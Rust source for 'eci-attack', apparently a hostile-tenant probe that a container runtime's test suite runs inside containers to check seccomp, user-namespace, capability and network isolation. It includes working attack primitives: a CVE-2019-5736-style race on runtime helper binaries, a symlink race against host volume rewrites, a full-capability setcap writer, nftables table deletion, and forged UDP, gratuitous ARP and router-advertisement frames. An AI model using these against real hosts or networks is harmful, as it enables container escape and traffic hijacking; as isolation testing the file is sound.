//! A hostile tenant's tool, run *inside* test containers by the hostile-tenant suite.
//!
//! - `eci-attack watch OUT SECONDS`: watches the container's PID namespace for new
//!   processes (the runtime's exec helper is one) and, at first sight of each, records
//!   how confined it is, tries to open its `/proc/<pid>/exe` and later to reopen that
//!   for writing (runc CVE-2019-5736), and looks for descriptors to directories in it.
//!   Lines are appended to OUT as they happen, so they survive the shim's death.
//! - `eci-attack syscalls`: tries calls the default seccomp profile must refuse (and a
//!   few it must allow) and prints `name: ok` or `name: <errno>` per call.
//! - `eci-attack whoami`: prints `ruid=<r> euid=<e> capeff=<hex>` (run setuid from the host, it shows
//!   whose privileges a tenant's setuid file grants there).
//! - `eci-attack race DIR NAME TARGET`: keeps `DIR/NAME` a symlink to `TARGET` and keeps
//!   adding fresh entries to DIR, so that a host process emptying DIR (the agent
//!   rewriting a configFile volume) meets `ENOTEMPTY` and then a planted link. Exits 1
//!   when DIR is no longer the mount it started on (the volume was replaced).
//! - `eci-attack setcap FILE`: gives FILE every capability, permitted and effective, as
//!   a revision-2 `security.capability` (what `setcap =ep` writes).
//! - `eci-attack userns`: container root, in its group's user namespace, tries to leave
//!   it: mounts, `pivot_root`, new user and mount namespaces, host-wide sysctls, and the
//!   group's and the host's namespaces by `setns`; prints `name: ok` or `name: <errno>`.
//! - `eci-attack netadmin`: without `CAP_NET_ADMIN`, tries to delete its security-group
//!   table over nfnetlink and to get a network namespace of its own (see `netadmin`).
//! - `eci-attack spoof-udp …`, `spoof-arp …`, `spoof-ra PREFIX`: writes forged frames
//!   (another source IP or MAC, gratuitous ARP, a router advertisement) below netfilter with an `AF_PACKET` socket (`CAP_NET_RAW`).
//! - `eci-attack udp-listen PORT`: prints each datagram and its source.

use std::collections::{HashMap, HashSet};
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use nix::libc;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("watch") if args.len() == 3 => {
            let secs = args[2].parse().unwrap_or(10);
            watch(&args[1], Duration::from_secs(secs));
        }
        Some("syscalls") => syscalls(),
        Some("fds") => fds(),
        Some("whoami") => {
            // SAFETY: getuid/geteuid cannot fail and touch no memory.
            let (r, e) = unsafe { (libc::getuid(), libc::geteuid()) };
            let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
            println!(
                "ruid={r} euid={e} capeff={}",
                status_field(&status, "CapEff:")
            );
        }
        Some("userns") => userns(),
        Some("setcap") if args.len() == 2 => setcap(&args[1]),
        Some("race") if args.len() == 4 => race(&args[1], &args[2], &args[3]),
        Some("netadmin") => netadmin(),
        Some("spoof-udp") if args.len() == 7 => spoof_udp(&args[1..]),
        Some("spoof-arp") if args.len() >= 2 => spoof_arp(&args[1..]),
        Some("udp-listen") if args.len() == 2 => udp_listen(&args[1]),
        Some("spoof-ra") if args.len() == 2 => spoof_ra(&args[1]),
        _ => {
            eprintln!("usage: eci-attack watch OUT SECONDS | syscalls | fds | whoami | userns");
            std::process::exit(2);
        }
    }
}

/// Prints the descriptors this process was started with (not the one listing them).
fn fds() {
    let mut open: Vec<u32> = std::fs::read_dir("/proc/self/fd")
        .into_iter()
        .flatten()
        .flatten()
        .filter(|e| std::fs::read_link(e.path()).is_ok_and(|t| !t.starts_with("/proc/")))
        .filter_map(|e| e.file_name().to_str().and_then(|n| n.parse().ok()))
        .collect();
    open.sort_unstable();
    let list: Vec<String> = open.iter().map(u32::to_string).collect();
    println!("fds: {}", list.join(" "));
}

fn status_field(status: &str, key: &str) -> String {
    status
        .lines()
        .find_map(|l| l.strip_prefix(key))
        .map(|v| v.trim().to_string())
        .unwrap_or_default()
}

fn errno_of(e: &std::io::Error) -> String {
    e.raw_os_error()
        .map(|n| nix::errno::Errno::from_raw(n).to_string())
        .unwrap_or_else(|| e.to_string())
}

fn watch(out: &str, dur: Duration) {
    let mut out = OpenOptions::new()
        .create(true)
        .append(true)
        .open(out)
        .expect("output file");
    let me = std::process::id();
    let mut seen: HashSet<u32> = HashSet::new();
    let mut exes: HashMap<u32, File> = HashMap::new();
    let mut last_write: HashMap<u32, String> = HashMap::new();
    let start = Instant::now();
    let _ = writeln!(out, "watching");
    while start.elapsed() < dur {
        for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
                continue;
            };
            if pid == me || !seen.insert(pid) {
                continue;
            }
            let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
            // The cgroup whose device rules apply: v1 `devices`, else the v2 one.
            let cgroups =
                std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default();
            let devices_cgroup = cgroups
                .lines()
                .find(|l| l.split(':').nth(1) == Some("devices"))
                .or_else(|| cgroups.lines().find(|l| l.starts_with("0::")))
                .and_then(|l| l.splitn(3, ':').nth(2))
                .unwrap_or("")
                .to_string();
            let _ = writeln!(
                out,
                "seen {pid} name={} uid={} capeff={} seccomp={} nnp={} cgroup={devices_cgroup}",
                status_field(&status, "Name:"),
                status_field(&status, "Uid:")
                    .split_whitespace()
                    .next()
                    .unwrap_or(""),
                status_field(&status, "CapEff:"),
                status_field(&status, "Seccomp:"),
                status_field(&status, "NoNewPrivs:"),
            );
            match File::open(format!("/proc/{pid}/exe")) {
                Ok(f) => {
                    // Its size tells the runtime's binary from the container's own: a
                    // helper is non-dumpable until it execs the container's program, so
                    // an open that wins the race with that exec reaches the latter.
                    let size = f.metadata().map(|m| m.len()).unwrap_or(0);
                    let _ = writeln!(out, "exe-open {pid} ok size={size}");
                    exes.insert(pid, f);
                }
                Err(e) => {
                    let _ = writeln!(out, "exe-open {pid} {}", errno_of(&e));
                }
            }
            for fd in std::fs::read_dir(format!("/proc/{pid}/fd"))
                .into_iter()
                .flatten()
                .flatten()
            {
                if std::fs::metadata(fd.path()).is_ok_and(|m| m.is_dir()) {
                    let _ = writeln!(out, "fd-dir {pid} {}", fd.file_name().to_string_lossy());
                }
            }
        }
        // Every binary opened so far: can it be reopened for writing now? Each change
        // of the answer is logged (ETXTBSY while a process executes it; after that, only
        // a read-only mount stands in the way).
        for (pid, f) in &exes {
            let path = format!("/proc/self/fd/{}", f.as_raw_fd());
            let now = match OpenOptions::new().write(true).open(&path) {
                // Do no harm even in a test: write nothing.
                Ok(_) => "EXE-WRITABLE".to_string(),
                Err(e) => errno_of(&e),
            };
            if last_write.get(pid) != Some(&now) {
                let _ = writeln!(out, "exe-write-now {pid} {now}");
                last_write.insert(*pid, now);
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    for (pid, f) in &exes {
        let path = format!("/proc/self/fd/{}", f.as_raw_fd());
        let r = OpenOptions::new().write(true).open(&path);
        let _ = writeln!(
            out,
            "exe-write {pid} {}",
            match r {
                Ok(_) => "ok".to_string(),
                Err(e) => errno_of(&e),
            }
        );
    }
    let _ = writeln!(out, "done");
}

/// One attempted call: its raw result and errno.
fn attempt(name: &str, f: impl FnOnce() -> libc::c_long) {
    // SAFETY: errno is thread-local; reading it right after the call is how it is used.
    let r = f();
    let err = std::io::Error::last_os_error();
    if r < 0 {
        println!("{name}: {}", errno_of(&err));
    } else {
        println!("{name}: ok");
    }
}

fn syscalls() {
    // SAFETY (all calls below): raw syscalls with integer or null arguments; none of
    // them is given memory it could write through, except clone3 whose argument
    // struct is a local array that outlives the call, and the child (if any) exits.
    attempt("socket_vsock", || unsafe {
        libc::syscall(libc::SYS_socket, libc::AF_VSOCK, libc::SOCK_STREAM, 0)
    });
    attempt("socket_inet", || unsafe {
        libc::syscall(libc::SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 0)
    });
    attempt("unshare_user", || unsafe {
        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWUSER)
    });
    attempt("unshare_mount", || unsafe {
        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWNS)
    });
    attempt("personality_addr_no_randomize", || unsafe {
        libc::syscall(libc::SYS_personality, 0x0040000)
    });
    attempt("personality_query", || unsafe {
        libc::syscall(libc::SYS_personality, 0xffff_ffffu32)
    });
    attempt("clone3", || {
        let args = [0u64; 11];
        // SAFETY: see above; a successful child exits at once.
        let r = unsafe { libc::syscall(libc::SYS_clone3, args.as_ptr(), 88usize) };
        if r == 0 {
            // SAFETY: the child of a clone3 without CLONE_VM leaves immediately.
            unsafe { libc::_exit(0) };
        }
        r
    });
    attempt("keyctl", || unsafe {
        libc::syscall(libc::SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0)
    });
    attempt("add_key", || unsafe {
        libc::syscall(libc::SYS_add_key, 0usize, 0usize, 0usize, 0usize, 0)
    });
    attempt("bpf", || unsafe {
        libc::syscall(libc::SYS_bpf, 0, 0usize, 0)
    });
    attempt("perf_event_open", || unsafe {
        libc::syscall(libc::SYS_perf_event_open, 0usize, 0, -1, -1, 0)
    });
    attempt("mount", || unsafe {
        libc::syscall(libc::SYS_mount, 0usize, 0usize, 0usize, 0, 0usize)
    });
    attempt("umount2", || unsafe {
        libc::syscall(libc::SYS_umount2, 0usize, 0)
    });
    attempt("kexec_load", || unsafe {
        libc::syscall(libc::SYS_kexec_load, 0, 0, 0usize, 0)
    });
    attempt("init_module", || unsafe {
        libc::syscall(libc::SYS_init_module, 0usize, 0, 0usize)
    });
    attempt("open_by_handle_at", || unsafe {
        libc::syscall(libc::SYS_open_by_handle_at, -1, 0usize, 0)
    });
    attempt("reboot", || unsafe {
        libc::syscall(libc::SYS_reboot, 0, 0, 0, 0usize)
    });
    attempt("io_uring_setup", || unsafe {
        libc::syscall(libc::SYS_io_uring_setup, 1, 0usize)
    });
    attempt("kcmp", || unsafe {
        let me = libc::getpid();
        libc::syscall(libc::SYS_kcmp, me, me, 0 /* KCMP_FILE */, 0, 0)
    });
    attempt("pidfd_getfd", || unsafe {
        libc::syscall(libc::SYS_pidfd_getfd, -1, 0, 0)
    });
    attempt("getpid", || unsafe { libc::syscall(libc::SYS_getpid) });
}

/// Writes `value` to a file, reporting the outcome as [`attempt`] does.
fn write_attempt(name: &str, path: &str, value: &str) {
    match OpenOptions::new().write(true).open(path) {
        Ok(mut f) => match f.write_all(value.as_bytes()) {
            Ok(()) => println!("{name}: ok"),
            Err(e) => println!("{name}: {}", errno_of(&e)),
        },
        Err(e) => println!("{name}: {}", errno_of(&e)),
    }
}

fn userns() {
    let c = |s: &str| std::ffi::CString::new(s).expect("no nul");
    let (tmpfs, mnt, root, proc_) = (c("tmpfs"), c("/tmp"), c("/"), c("/proc"));
    // SAFETY (all calls below): the strings outlive each call; the other arguments are
    // integers or null; a forked child only makes raw calls and `_exit`s.
    attempt("mount_tmpfs", || unsafe {
        libc::mount(
            tmpfs.as_ptr(),
            mnt.as_ptr(),
            tmpfs.as_ptr(),
            0,
            std::ptr::null(),
        ) as libc::c_long
    });
    attempt("remount_root_rw", || unsafe {
        libc::mount(
            std::ptr::null(),
            root.as_ptr(),
            std::ptr::null(),
            libc::MS_REMOUNT | libc::MS_BIND,
            std::ptr::null(),
        ) as libc::c_long
    });
    attempt("umount_proc", || unsafe {
        libc::umount2(proc_.as_ptr(), libc::MNT_DETACH) as libc::c_long
    });
    attempt("pivot_root", || unsafe {
        libc::syscall(libc::SYS_pivot_root, root.as_ptr(), root.as_ptr())
    });
    attempt("unshare_user", || unsafe {
        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWUSER)
    });
    attempt("unshare_mount", || unsafe {
        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWNS)
    });
    // A user namespace of its own, then a mount in a mount namespace it owns: only
    // seccomp's clone rules stand here (CLONE_NEWUSER needs CAP_SYS_ADMIN there).
    attempt("userns_then_mount", || unsafe {
        let pid = libc::fork();
        if pid == 0 {
            let ok = libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) == 0
                && libc::mount(
                    tmpfs.as_ptr(),
                    mnt.as_ptr(),
                    tmpfs.as_ptr(),
                    0,
                    std::ptr::null(),
                ) == 0;
            libc::_exit(if ok { 0 } else { 1 });
        }
        let mut status = 0;
        libc::waitpid(pid, &mut status, 0);
        if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
            0
        } else {
            *libc::__errno_location() = libc::EPERM;
            -1
        }
    });
    // Host-wide sysctls (not namespaced): harmless values, refused anyway.
    write_attempt(
        "sysctl_core_pattern",
        "/proc/sys/kernel/core_pattern",
        "core",
    );
    write_attempt("sysctl_drop_caches", "/proc/sys/vm/drop_caches", "1");
    write_attempt("sysctl_file_max", "/proc/sys/fs/file-max", "1000000");
    // The namespaces it holds: joining its own is a no-op a capable root may try; the
    // initial ones (through pid 1's links, which name only its own pid namespace) not.
    for ns in ["mnt", "pid", "user"] {
        let path = format!("/proc/1/ns/{ns}");
        attempt(&format!("setns_{ns}"), || match File::open(&path) {
            // SAFETY: a valid fd and a flags value.
            Ok(f) => unsafe { libc::setns(f.as_raw_fd(), 0) as libc::c_long },
            Err(e) => {
                // SAFETY: errno is thread-local.
                unsafe { *libc::__errno_location() = e.raw_os_error().unwrap_or(libc::EIO) };
                -1
            }
        });
    }
    attempt("chown_to_unmapped", || {
        // Uid 65536 is outside the range: no host id to store.
        let p = c("/tmp/unmapped");
        let _ = File::create("/tmp/unmapped");
        // SAFETY: a valid path string.
        unsafe { libc::chown(p.as_ptr(), 65536, 65536) as libc::c_long }
    });
    attempt("setuid_unmapped", || unsafe {
        let pid = libc::fork();
        if pid == 0 {
            libc::_exit(if libc::setuid(65536) == 0 { 0 } else { 1 });
        }
        let mut status = 0;
        libc::waitpid(pid, &mut status, 0);
        if libc::WEXITSTATUS(status) == 0 {
            0
        } else {
            *libc::__errno_location() = libc::EINVAL;
            -1
        }
    });
    println!("userns-done");
}

fn race(dir: &str, name: &str, target: &str) {
    use std::os::unix::fs::MetadataExt;
    let dev_ino = |p: &str| std::fs::metadata(p).map(|m| (m.dev(), m.ino())).ok();
    let start = dev_ino(dir);
    // Many entries make the host's removal slow: a wide window for the threads below.
    for i in 0..2000 {
        let _ = File::create(format!("{dir}/p{i}"));
    }
    let link = format!("{dir}/{name}");
    let _ = std::fs::remove_file(&link);
    let target = target.to_string();
    // Puts the link back as soon as it is removed.
    std::thread::spawn(move || {
        loop {
            let _ = std::os::unix::fs::symlink(&target, &link);
        }
    });
    // Keeps adding entries the removal has not listed.
    let d = dir.to_string();
    std::thread::spawn(move || {
        let mut i: u64 = 0;
        loop {
            i += 1;
            let _ = File::create(format!("{d}/n{i}"));
            if i > 64 {
                let _ = std::fs::remove_file(format!("{d}/n{}", i - 64));
            }
        }
    });
    println!("racing");
    loop {
        std::thread::sleep(Duration::from_millis(100));
        if dev_ino(dir) != start {
            println!("volume replaced");
            std::process::exit(1);
        }
    }
}

fn setcap(file: &str) {
    // Revision 2 with the effective flag; permitted: all 41 capabilities.
    let mut v = Vec::with_capacity(20);
    for w in [0x0200_0001u32, 0xffff_ffff, 0, 0x1ff, 0] {
        v.extend_from_slice(&w.to_le_bytes());
    }
    let path = std::ffi::CString::new(file).expect("no nul");
    let name = c"security.capability";
    attempt("setcap", || {
        // SAFETY: valid strings and a buffer of the given length, all outliving the call.
        unsafe {
            libc::setxattr(path.as_ptr(), name.as_ptr(), v.as_ptr().cast(), v.len(), 0)
                as libc::c_long
        }
    });
}

// ---------------------------------------------------------------------------------------
// Network attacks (tests/tests/hostile_network.rs).

/// `eci-attack netadmin`: container root tries to change its group's network without
/// `CAP_NET_ADMIN`: delete the security-group table over nfnetlink, new network and
/// user namespaces, and from a nested user namespace (if one could be made) the group's
/// netns. Prints `name: ok` or `name: <errno>`.
fn netadmin() {
    attempt("nft_delete_eci_sg", nft_delete_table);
    attempt("unshare_net", || unsafe {
        // SAFETY: a raw syscall with an integer argument.
        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWNET)
    });
    attempt("unshare_user_net", || unsafe {
        // SAFETY: as above.
        libc::syscall(libc::SYS_unshare, libc::CLONE_NEWUSER | libc::CLONE_NEWNET)
    });
    // A nested user namespace would hold every capability, but over its own new netns
    // only: joining the group's netns (owned by the parent user namespace) must fail.
    attempt("nested_userns_setns_group_netns", || {
        let group = File::open("/proc/self/ns/net");
        // SAFETY: the child makes raw calls only and `_exit`s; the fd outlives them.
        unsafe {
            let pid = libc::fork();
            if pid == 0 {
                let ok = libc::unshare(libc::CLONE_NEWUSER) == 0
                    && group
                        .as_ref()
                        .is_ok_and(|f| libc::setns(f.as_raw_fd(), libc::CLONE_NEWNET) == 0);
                libc::_exit(if ok { 0 } else { 1 });
            }
            let mut status = 0;
            libc::waitpid(pid, &mut status, 0);
            if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
                0
            } else {
                *libc::__errno_location() = libc::EPERM;
                -1
            }
        }
    });
    println!("netadmin-done");
}

/// Sends one nf_tables batch deleting table `inet eci_sg`; returns 0 or -1 with errno
/// set to the kernel's answer.
fn nft_delete_table() -> libc::c_long {
    fn msg(buf: &mut Vec<u8>, ty: u16, flags: u16, seq: u32, family: u8, res: u16, attrs: &[u8]) {
        buf.extend_from_slice(&((20 + attrs.len()) as u32).to_ne_bytes());
        buf.extend_from_slice(&ty.to_ne_bytes());
        buf.extend_from_slice(&flags.to_ne_bytes());
        buf.extend_from_slice(&seq.to_ne_bytes());
        buf.extend_from_slice(&0u32.to_ne_bytes());
        buf.extend_from_slice(&[family, 0]);
        buf.extend_from_slice(&res.to_be_bytes());
        buf.extend_from_slice(attrs);
    }
    let name = b"eci_sg\0";
    let mut attr = Vec::new();
    attr.extend_from_slice(&((4 + name.len()) as u16).to_ne_bytes());
    attr.extend_from_slice(&1u16.to_ne_bytes()); // NFTA_TABLE_NAME
    attr.extend_from_slice(name);
    attr.resize(attr.len().next_multiple_of(4), 0);
    let mut buf = Vec::new();
    msg(&mut buf, 0x10, 1, 1, 0, 10, &[]); // BATCH_BEGIN, subsys nftables
    msg(&mut buf, (10 << 8) | 2, 1 | 4, 2, 1, 0, &attr); // DELTABLE inet, ACK
    msg(&mut buf, 0x11, 1, 3, 0, 10, &[]); // BATCH_END
    // SAFETY: plain socket calls on a descriptor this function owns; the buffers
    // outlive the calls.
    unsafe {
        let fd = libc::socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER);
        if fd < 0 {
            return -1;
        }
        let tv = libc::timeval {
            tv_sec: 3,
            tv_usec: 0,
        };
        libc::setsockopt(
            fd,
            libc::SOL_SOCKET,
            libc::SO_RCVTIMEO,
            (&tv as *const libc::timeval).cast(),
            std::mem::size_of::<libc::timeval>() as u32,
        );
        if libc::send(fd, buf.as_ptr().cast(), buf.len(), 0) < 0 {
            let e = *libc::__errno_location();
            libc::close(fd);
            *libc::__errno_location() = e;
            return -1;
        }
        let mut reply = [0u8; 4096];
        let n = libc::recv(fd, reply.as_mut_ptr().cast(), reply.len(), 0);
        libc::close(fd);
        if n < 20 {
            *libc::__errno_location() = libc::EIO;
            return -1;
        }
        // NLMSG_ERROR (2): its first 4 bytes are -errno (0: an ACK).
        let ty = u16::from_ne_bytes([reply[4], reply[5]]);
        let code = i32::from_ne_bytes([reply[16], reply[17], reply[18], reply[19]]);
        if ty == 2 && code != 0 {
            *libc::__errno_location() = -code;
            return -1;
        }
        0
    }
}

fn parse_mac(s: &str) -> [u8; 6] {
    let mut m = [0u8; 6];
    for (i, p) in s.trim().split(':').enumerate().take(6) {
        m[i] = u8::from_str_radix(p, 16).expect("MAC");
    }
    m
}

/// eth0's MAC and IPv4 address.
fn own_eth0() -> ([u8; 6], std::net::Ipv4Addr) {
    let mac = parse_mac(&std::fs::read_to_string("/sys/class/net/eth0/address").expect("mac"));
    // /proc/net/fib_trie is verbose; the "LOCAL" host entry under eth0's subnet is ours.
    let trie = std::fs::read_to_string("/proc/net/fib_trie").unwrap_or_default();
    let mut last = None;
    let mut ip = None;
    for l in trie.lines() {
        let t = l.trim_start_matches([' ', '|', '-', '+']).trim();
        if let Ok(a) = t.parse::<std::net::Ipv4Addr>() {
            last = Some(a);
        } else if t.contains("host LOCAL")
            && let Some(a) = last.filter(|a| !a.is_loopback())
        {
            ip = Some(a);
        }
    }
    (mac, ip.expect("eth0 has an IPv4 address"))
}

/// Writes Ethernet frames to eth0 through an `AF_PACKET` socket (needs `CAP_NET_RAW`):
/// netfilter in the sender's netns never sees them.
fn send_frames(frames: &[Vec<u8>]) -> std::io::Result<()> {
    let name = std::ffi::CString::new("eth0").expect("name");
    // SAFETY: plain socket calls; `sll` and the frames outlive them.
    unsafe {
        let fd = libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0);
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let mut sll: libc::sockaddr_ll = std::mem::zeroed();
        sll.sll_family = libc::AF_PACKET as u16;
        sll.sll_ifindex = libc::if_nametoindex(name.as_ptr()) as i32;
        sll.sll_halen = 6;
        for f in frames {
            sll.sll_addr[..6].copy_from_slice(&f[..6]);
            let r = libc::sendto(
                fd,
                f.as_ptr().cast(),
                f.len(),
                0,
                (&sll as *const libc::sockaddr_ll).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            );
            if r < 0 {
                let e = std::io::Error::last_os_error();
                libc::close(fd);
                return Err(e);
            }
        }
        libc::close(fd);
    }
    Ok(())
}

fn ipv4_checksum(h: &[u8]) -> u16 {
    let mut sum: u32 = h
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// `eci-attack spoof-udp SRC_IP SRC_MAC DST_IP DST_MAC PORT PAYLOAD`: one UDP datagram
/// with any source, written below netfilter. `self` stands for eth0's own address or
/// MAC. Prints `sent` or the errno.
fn spoof_udp(a: &[String]) {
    let (mac, ip) = own_eth0();
    let src_ip: std::net::Ipv4Addr = if a[0] == "self" {
        ip
    } else {
        a[0].parse().expect("SRC_IP")
    };
    let src_mac = if a[1] == "self" {
        mac
    } else {
        parse_mac(&a[1])
    };
    let dst_ip: std::net::Ipv4Addr = a[2].parse().expect("DST_IP");
    let dst_mac = parse_mac(&a[3]);
    let port: u16 = a[4].parse().expect("PORT");
    let payload = format!("{}\n", a[5]).into_bytes();
    let mut f = Vec::new();
    f.extend_from_slice(&dst_mac);
    f.extend_from_slice(&src_mac);
    f.extend_from_slice(&[0x08, 0x00]);
    let total = (20 + 8 + payload.len()) as u16;
    let mut h = vec![0x45, 0, 0, 0, 0x12, 0x34, 0x40, 0, 64, 17, 0, 0];
    h[2..4].copy_from_slice(&total.to_be_bytes());
    h.extend_from_slice(&src_ip.octets());
    h.extend_from_slice(&dst_ip.octets());
    let c = ipv4_checksum(&h);
    h[10..12].copy_from_slice(&c.to_be_bytes());
    f.extend_from_slice(&h);
    f.extend_from_slice(&40000u16.to_be_bytes());
    f.extend_from_slice(&port.to_be_bytes());
    f.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    f.extend_from_slice(&[0, 0]); // no UDP checksum (allowed over IPv4)
    f.extend_from_slice(&payload);
    match send_frames(&[f]) {
        Ok(()) => println!("sent"),
        Err(e) => println!("spoof-udp: {}", errno_of(&e)),
    }
}

/// `eci-attack spoof-arp IP [MAC]`: gratuitous ARP (a request and a reply, broadcast)
/// saying IP is at MAC (eth0's own MAC by default): what an ARP spoofer sends to steal
/// IP's traffic. Prints `sent` or the errno.
fn spoof_arp(a: &[String]) {
    let (own, _) = own_eth0();
    let ip: std::net::Ipv4Addr = a[0].parse().expect("IP");
    let mac = a.get(1).map(|m| parse_mac(m)).unwrap_or(own);
    let frames: Vec<Vec<u8>> = [1u8, 2]
        .iter()
        .map(|op| {
            let mut f = vec![0xff; 6];
            f.extend_from_slice(&mac);
            f.extend_from_slice(&[0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, *op]);
            f.extend_from_slice(&mac);
            f.extend_from_slice(&ip.octets());
            f.extend_from_slice(&[0xff; 6]);
            f.extend_from_slice(&ip.octets());
            f
        })
        .collect();
    match send_frames(&frames) {
        Ok(()) => println!("sent"),
        Err(e) => println!("spoof-arp: {}", errno_of(&e)),
    }
}

/// `eci-attack udp-listen PORT`: prints `got <payload> from <source>` per datagram.
fn udp_listen(port: &str) {
    let s =
        std::net::UdpSocket::bind(("0.0.0.0", port.parse::<u16>().expect("PORT"))).expect("bind");
    let mut buf = [0u8; 2048];
    loop {
        if let Ok((n, from)) = s.recv_from(&mut buf) {
            println!(
                "got {} from {}",
                String::from_utf8_lossy(&buf[..n]).trim(),
                from.ip()
            );
            let _ = std::io::stdout().flush();
        }
    }
}

/// eth0's IPv6 link-local address, from /proc/net/if_inet6.
fn own_link_local() -> std::net::Ipv6Addr {
    let t = std::fs::read_to_string("/proc/net/if_inet6").expect("if_inet6");
    t.lines()
        .filter(|l| l.ends_with(" eth0") && l.starts_with("fe80"))
        .find_map(|l| u128::from_str_radix(l.split(' ').next()?, 16).ok())
        .map(std::net::Ipv6Addr::from)
        .expect("eth0 has a link-local address")
}

/// `eci-attack spoof-ra PREFIX`: an ICMPv6 router advertisement to all nodes from eth0's
/// link-local address, offering a default route and SLAAC prefix PREFIX/64: what a
/// tenant sends to become the other groups' router. Prints `sent` or the errno.
fn spoof_ra(prefix: &str) {
    let (mac, _) = own_eth0();
    let src = own_link_local();
    let dst: std::net::Ipv6Addr = "ff02::1".parse().expect("ff02::1");
    let prefix: std::net::Ipv6Addr = prefix.parse().expect("PREFIX");
    // RA: type, code, checksum, hop limit, flags, router lifetime, reachable, retrans.
    let mut icmp = vec![134, 0, 0, 0, 64, 0];
    icmp.extend_from_slice(&1800u16.to_be_bytes());
    icmp.extend_from_slice(&[0; 8]);
    // Prefix information: on-link and autonomous, valid 1 day, preferred 4 h.
    icmp.extend_from_slice(&[3, 4, 64, 0xc0]);
    icmp.extend_from_slice(&86400u32.to_be_bytes());
    icmp.extend_from_slice(&14400u32.to_be_bytes());
    icmp.extend_from_slice(&[0; 4]);
    icmp.extend_from_slice(&prefix.octets());
    // Source link-layer address.
    icmp.extend_from_slice(&[1, 1]);
    icmp.extend_from_slice(&mac);
    let mut pseudo = Vec::new();
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&(icmp.len() as u32).to_be_bytes());
    pseudo.extend_from_slice(&[0, 0, 0, 58]);
    pseudo.extend_from_slice(&icmp);
    let c = ipv4_checksum(&pseudo);
    icmp[2..4].copy_from_slice(&c.to_be_bytes());
    let mut f = vec![0x33, 0x33, 0, 0, 0, 1];
    f.extend_from_slice(&mac);
    f.extend_from_slice(&[0x86, 0xdd, 0x60, 0, 0, 0]);
    f.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
    f.extend_from_slice(&[58, 255]);
    f.extend_from_slice(&src.octets());
    f.extend_from_slice(&dst.octets());
    f.extend_from_slice(&icmp);
    match send_frames(&[f]) {
        Ok(()) => println!("sent"),
        Err(e) => println!("spoof-ra: {}", errno_of(&e)),
    }
}
